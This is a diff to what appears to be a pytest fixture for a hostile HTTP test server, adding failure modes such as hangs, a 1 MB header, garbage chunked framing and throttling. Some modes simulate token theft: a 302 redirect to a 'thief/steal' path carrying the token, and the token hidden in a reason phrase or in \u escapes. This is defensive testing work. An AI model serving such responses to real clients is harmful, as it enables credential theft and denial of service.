@@ -62,6 +62,16 @@ MODES: dict[str, str] = {
     "half-body": "get promises 1,000 bytes and sends 10, then closes",
     "bad-status": "get answers a status line that is not HTTP",
     "many-headers": "get answers 2,000 headers",
+    "redirect-token": "start answers 302 to the thief path with the token in the Location",
+    "start-hang": "start never answers",
+    "start-trickle": "start answers one byte per second",
+    "reason-token": "get answers 503 whose reason phrase is the token and whose error body "
+                    "spells it out in \\u escapes",
+    "escaped-echo": "get answers a run state spelling the token out in \\u escapes",
+    "huge-header": "get answers a header of 1 MB",
+    "empty-200": "get answers 200 with no body",
+    "chunk-garbage": "get answers a chunked body whose chunk size is not hexadecimal",
+    "throttled": "get answers 429 with Retry-After: 3600",
 }
 
 
@@ -353,6 +363,72 @@ class _Handler(BaseHTTPRequestHandler):
             self.send_header("Content-Length", "2")
             self.end_headers()
             self.wfile.write(b"{}")
+
+
+    # ----- more: the start call itself, escapes, framing -----
+
+    def _redirect_token(self, method: str, rest: list[str]) -> None:
+        self.send_response(302)
+        self.send_header("Location", f"{self.hostile.url}/thief/customer/v1/steal?t="
+                                     f"{self._token()}")
+        self.send_header("Content-Length", "0")
+        self.end_headers()
+
+    def _start_hang(self, method: str, rest: list[str]) -> None:
+        time.sleep(120)
+
+    def _start_trickle(self, method: str, rest: list[str]) -> None:
+        body = json.dumps(_state("run-trickled", 1)).encode()
+        self.send_response(200)
+        self.send_header("Content-Type", "application/json")
+        self.send_header("Content-Length", str(len(body)))
+        self.end_headers()
+        for byte in body[:120]:
+            self.wfile.write(bytes([byte]))
+            self.wfile.flush()
+            time.sleep(1.0)
+
+    def _reason_token(self, method: str, rest: list[str]) -> None:
+        if self._start_or(method, rest):
+            spelled = "".join(f"\\u{ord(c):04x}" for c in self._token())
+            body = f'{{"code": "unavailable", "message": "no {spelled} today"}}'.encode()
+            self.send_response(503, self._token())
+            self.send_header("Content-Type", "application/json")
+            self.send_header("Content-Length", str(len(body)))
+            self.end_headers()
+            self.wfile.write(body)
+
+    def _escaped_echo(self, method: str, rest: list[str]) -> None:
+        if self._start_or(method, rest):
+            spelled = "".join(f"\\u{ord(c):04x}" for c in self._token())
+            text = json.dumps(_state(self._run_id(rest), 1))
+            self._send(200, (text[:-1] + f', "note": "{spelled}"}}').encode())
+
+    def _huge_header(self, method: str, rest: list[str]) -> None:
+        if self._start_or(method, rest):
+            self.send_response(200)
+            self.send_header("X-Big", "v" * (1024 * 1024))
+            self.send_header("Content-Length", "2")
+            self.end_headers()
+            self.wfile.write(b"{}")
+
+    def _empty_200(self, method: str, rest: list[str]) -> None:
+        if self._start_or(method, rest):
+            self._send(200, b"")
+
+    def _chunk_garbage(self, method: str, rest: list[str]) -> None:
+        if self._start_or(method, rest):
+            self.send_response(200)
+            self.send_header("Content-Type", "application/json")
+            self.send_header("Transfer-Encoding", "chunked")
+            self.end_headers()
+            self.wfile.write(b"zz\r\n{}\r\n0\r\n\r\n")
+            self.close_connection = True
+
+    def _throttled(self, method: str, rest: list[str]) -> None:
+        if self._start_or(method, rest):
+            self._json(429, {"code": "rate_limited", "message": "slow down"},
+                       {"Retry-After": "3600"})
 
 
 @pytest.fixture(scope="session")
